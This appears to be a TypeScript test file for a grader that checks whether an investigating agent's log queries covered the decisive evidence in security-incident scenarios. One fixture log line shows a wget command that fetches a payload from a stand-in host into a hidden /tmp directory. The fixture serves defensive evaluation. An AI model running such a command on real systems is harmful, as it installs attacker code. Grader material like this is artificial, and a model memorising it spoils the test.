import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { describe, it } from "node:test";
import { decisiveCoverage, type RunbookCatalog, type RunbookFacts, sameSubject } from "./decisive.js";
import { listScenarios } from "./scenarios.js";

describe("decisive evidence queried", () => {
  const probe = {
    runbook: "ssh_logins_from_ip",
    params: { ip: "203.0.113.77" },
  };
  const history = {
    runbook: "principal_history",
    params: { principal: "Dev@Orion.example", recent: "2025-11-03T20:17:09.412Z" },
  };

  it("counts a probe asked when the runbook ran with the same identity values, whatever the window", () => {
    const calls = [
      {
        name: "log_query",
        args: { runbook: "ssh_logins_from_ip", params: { ip: "203.0.113.77", start: "a", end: "b" } },
      },
      {
        name: "log_query",
        args: { runbook: "principal_history", params: { principal: "dev@orion.example", recent: "other" } },
      },
    ];
    assert.deepEqual(decisiveCoverage([probe, history], calls), { queried: 2, of: 2, missing: [] });
  });

  it("misses a probe asked about another value or with another runbook, and names it", () => {
    const calls = [
      { name: "log_query", args: { runbook: "ssh_logins_from_ip", params: { ip: "203.0.113.78" } } },
      { name: "log_query", args: { runbook: "caller_ip_activity", params: { ip: "203.0.113.77" } } },
    ];
    assert.deepEqual(decisiveCoverage([probe], calls), {
      queried: 0,
      of: 1,
      missing: ["ssh_logins_from_ip(ip=203.0.113.77)"],
    });
  });

  it("counts SQL that holds every identity value", () => {
    const calls = [
      { name: "log_query", args: { sql: "SELECT * FROM syslog WHERE textPayload LIKE '%203.0.113.77%'" } },
    ];
    assert.equal(decisiveCoverage([probe], calls).queried, 1);
  });
});

describe("decisive evidence compared by meaning (decision 0053)", () => {
  const facts = (tables: string[], subject: "rows" | "actors" = "rows"): RunbookFacts => ({
    tables,
    subject,
  });
  const AUDIT = ["cloudaudit_googleapis_com_activity", "cloudaudit_googleapis_com_data_access"];
  const catalog: RunbookCatalog = (name) =>
    ({
      resource_activity: facts(["cloudaudit_googleapis_com_activity"]),
      principal_history: facts(AUDIT),
      principal_activity: facts(AUDIT),
      resource_changer_history: facts(AUDIT, "actors"),
      host_syslog: facts(["syslog"]),
      host_syslog_search: facts(["syslog"]),
      bucket_data_access: facts(["cloudaudit_googleapis_com_data_access"]),
      data_access_by_resource: facts(["cloudaudit_googleapis_com_data_access"]),
    })[name];
  const run = (runbook: string, params: Record<string, string>, rows?: unknown[]) => ({
    name: "log_query",
    args: { runbook, params },
    ...(rows ? { data: { rows } } : {}),
  });

  it("one name is a tail of the other's whole segments: the same resource", () => {
    assert.ok(sameSubject("harbor-prod", "projects/harbor-prod"));
    assert.ok(sameSubject("projects/acme/datasets/payments", "datasets/payments"));
    assert.ok(sameSubject("node-exporter", "namespaces/monitoring/daemonsets/node-exporter"));
    assert.ok(!sameSubject("prod", "projects/harbor-prod"), "a tail must be whole segments");
    assert.ok(!sameSubject("projects/harbor-prod-2", "projects/harbor-prod"));
    assert.ok(!sameSubject("", "x"));
  });

  it("counts resource_activity asked by a shorter name of the same resource, never of another", () => {
    const probe = { runbook: "resource_activity", params: { resource: "projects/harbor-prod" } };
    assert.equal(
      decisiveCoverage([probe], [run("resource_activity", { resource: "harbor-prod" })]).queried,
      1,
    );
    assert.equal(decisiveCoverage([probe], [run("resource_activity", { resource: "harbor" })]).queried, 0);
  });

  it("an actors runbook read a principal's history when its rows name that principal", () => {
    const probe = { runbook: "principal_history", params: { principal: "Ops@Harbor.example", recent: "r" } };
    const changers = (principal: string) =>
      run("resource_changer_history", { resource: "harbor-prod" }, [
        { principal, caller_ip: "198.51.100.23" },
      ]);
    assert.equal(decisiveCoverage([probe], [changers("ops@harbor.example")], catalog).queried, 1);
    assert.equal(decisiveCoverage([probe], [changers("dev@harbor.example")], catalog).queried, 0);
    assert.equal(
      decisiveCoverage([probe], [changers("ops@harbor.example")]).queried,
      0,
      "no catalog, no meaning",
    );
    // A rows runbook naming the principal is not its history.
    const activity = run("principal_activity", { principal: "dev@harbor.example" }, [
      { principal: "ops@harbor.example" },
    ]);
    assert.equal(decisiveCoverage([probe], [activity], catalog).queried, 0);
  });

  it("the rows that decide were read: a search on the same host whose answers hold what the probe expects", () => {
    const probe = {
      runbook: "host_syslog_search",
      params: { instance: "render-node-3", term: "udpf" },
      expect: ["/tmp/.x/udpf", "192.0.2.61"],
    };
    const line = { instance: "render-node-3", text: "wget http://192.0.2.61/udpf -O /tmp/.x/udpf" };
    const search = (instance: string, rows: unknown[]) =>
      run("host_syslog_search", { instance, term: "/tmp/" }, rows);
    assert.equal(decisiveCoverage([probe], [search("render-node-3", [line])], catalog).queried, 1);
    assert.equal(
      decisiveCoverage([probe], [run("host_syslog", { instance: "render-node-3" }, [line])], catalog).queried,
      1,
    );
    assert.equal(
      decisiveCoverage([probe], [search("render-node-3", [{ text: "wget http://192.0.2.61/x" }])], catalog)
        .queried,
      0,
      "one expected string is missing",
    );
    assert.equal(
      decisiveCoverage([probe], [search("render-node-4", [line])], catalog).queried,
      0,
      "another host",
    );
    // Answers split over calls still count together: each search found part of it.
    const parts = [
      search("render-node-3", [{ text: "/tmp/.x/udpf" }]),
      search("render-node-3", [{ text: "from 192.0.2.61" }]),
    ];
    assert.equal(decisiveCoverage([probe], parts, catalog).queried, 1);
  });

  it("an unfiltered call counts only when its answer names the probe's subject", () => {
    const probe = {
      runbook: "bucket_data_access",
      params: { bucket: "harbor-exports" },
      expect: ["storage.objects.get"],
    };
    const byResource = (resource: string) =>
      run("data_access_by_resource", {}, [
        { resource: `projects/_/buckets/${resource}`, method: "storage.objects.get" },
      ]);
    assert.equal(decisiveCoverage([probe], [byResource("harbor-exports")], catalog).queried, 1);
    assert.equal(decisiveCoverage([probe], [byResource("other-bucket")], catalog).queried, 0);
  });

  it("a probe whose evidence is an empty answer counts only when asked", () => {
    const probe = { runbook: "resource_activity", params: { resource: "datasets/payments" }, expect: [] };
    assert.equal(
      decisiveCoverage([probe], [run("resource_activity", { resource: "payments" })], catalog).queried,
      1,
    );
    assert.equal(
      decisiveCoverage([probe], [run("principal_history", { principal: "payments" }, [])], catalog).queried,
      0,
    );
  });
});

describe("scenario probes: a wrong-identifier trap is never decisive", () => {
  it("leaves out the probes expected.json marks as traps", () => {
    const [scenario] = listScenarios(["ctd-reverse-shell"]);
    assert.ok(scenario);
    const raw = JSON.parse(readFileSync(scenario.input.expectedPath ?? "", "utf8")) as {
      probes: { runbook: string; trap?: boolean }[];
    };
    const traps = raw.probes.filter((p) => p.trap === true);
    assert.ok(traps.length > 0, "the scenario has a trap to leave out");
    assert.equal(scenario.probes.length, raw.probes.length - traps.length);
  });
});
